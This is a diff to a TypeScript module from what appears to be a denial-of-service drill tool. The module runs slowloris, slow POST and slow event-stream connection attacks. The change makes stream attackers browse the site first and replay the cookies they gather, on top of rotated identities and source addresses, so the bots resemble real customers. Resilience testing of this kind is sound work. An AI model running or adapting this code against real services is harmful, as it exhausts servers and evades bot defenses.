@@ -3,7 +3,7 @@ import { createAttackCounters, recordAnswer, recordSent, type AttackCounters } f
 import type { AttackEnv } from './attack-env.js';
 import { randomToken } from './rng.js';
 import { drillLocalPorts } from './local-ports.js';
-import type { WarmupReport, WarmupSpec } from './warmup.js';
+import { browseFirst, type BrowsingBot, type WarmupReport, type WarmupSpec } from './warmup.js';
 
 /**
  * Connection attacks: slowloris (a request head that never ends, one header line at a time),
@@ -40,8 +40,9 @@ export interface SlowSpec {
    */
   messages?: boolean;
   /**
-   * WebSocket: before the attack each source browses like a customer (drill/warmup.ts) and its
-   * tunnels' handshakes carry the cookies it kept — bots that hold what customers hold.
+   * WebSocket and stream: before the attack each source browses like a customer (drill/warmup.ts)
+   * and its tunnels' handshakes (its streams' requests) carry the cookies it kept — bots that hold
+   * what customers hold.
    */
   warmup?: WarmupSpec;
   /** Path requested; slow POST targets a form that accepts bodies. */
@@ -178,8 +179,11 @@ export function startSlow(spec: SlowSpec, env: SlowEnv): RunningSlow {
   const head = (idx: number): string => {
     const id = env.identities[idx % env.identities.length]!;
     if (spec.kind === 'stream') {
-      return [`GET ${spec.path}${randomToken(env.rng, 11)} HTTP/1.1`, `Host: ${env.hostHeader}`, `User-Agent: ${id.userAgent}`,
-        'Accept: text/event-stream', 'Cache-Control: no-cache', `Accept-Language: ${id.acceptLanguage}`, '', ''].join('\r\n');
+      const bot = bots?.[idx % bots.length];
+      const ua = bot?.identity ?? id;
+      const cookie = bot && bot.cookies.size > 0 ? [`Cookie: ${[...bot.cookies].map(([k, v]) => `${k}=${v}`).join('; ')}`] : [];
+      return [`GET ${spec.path}${randomToken(env.rng, 11)} HTTP/1.1`, `Host: ${env.hostHeader}`, `User-Agent: ${ua.userAgent}`,
+        'Accept: text/event-stream', 'Cache-Control: no-cache', `Accept-Language: ${ua.acceptLanguage}`, ...cookie, '', ''].join('\r\n');
     }
     const lines = [
       `${spec.kind === 'body' ? 'POST' : 'GET'} ${spec.path}${spec.kind === 'headers' ? `?${randomToken(env.rng, 6)}=${randomToken(env.rng, 8)}` : ''} HTTP/1.1`,
@@ -195,6 +199,15 @@ export function startSlow(spec: SlowSpec, env: SlowEnv): RunningSlow {
   };
   const chunk = 'a'.repeat(Math.max(1, spec.chunkBytes ?? 1));
   const answered = new WeakSet<Socket>();
+  // Streams with a warm-up: each source is a bot that browsed first; connection idx is its source's, with its jar.
+  const bots: BrowsingBot[] | undefined = spec.kind === 'stream' && spec.warmup
+    ? env.addresses.map((address, i) => ({ index: i, address, identity: env.identities[i % env.identities.length]!, cookies: new Map<string, string>() }))
+    : undefined;
+  const warm: WarmupReport | undefined = bots ? { pages: 0, ok: 0, botsWithCookies: 0 } : undefined;
+  if (bots && spec.warmup) {
+    void browseFirst(spec.warmup, spec.startS, { ...env, origin: `http://${env.hostHeader}` }, bots, warm!)
+      .then(() => { warm!.botsWithCookies = bots.filter((b) => b.cookies.size > 0).length; });
+  }
   const h = holdConnections(spec, env, {
     open(idx, address) {
       const socket = connect({ host: env.host, port: env.port, ...(address ? { localAddress: address, localPort: drillLocalPorts.next(address) } : {}) });
@@ -219,5 +232,5 @@ export function startSlow(spec: SlowSpec, env: SlowEnv): RunningSlow {
       socket.write(spec.kind === 'headers' ? `X-${randomToken(env.rng, 5)}: ${randomToken(env.rng, 6)}\r\n` : chunk);
     },
   });
-  return { counters: h.counters, get held() { return h.held.size; }, get longestHeldMs() { return h.longestHeldMs(); }, done: h.done };
+  return { counters: h.counters, get held() { return h.held.size; }, get longestHeldMs() { return h.longestHeldMs(); }, done: h.done, ...(warm ? { warmup: warm } : {}) };
 }
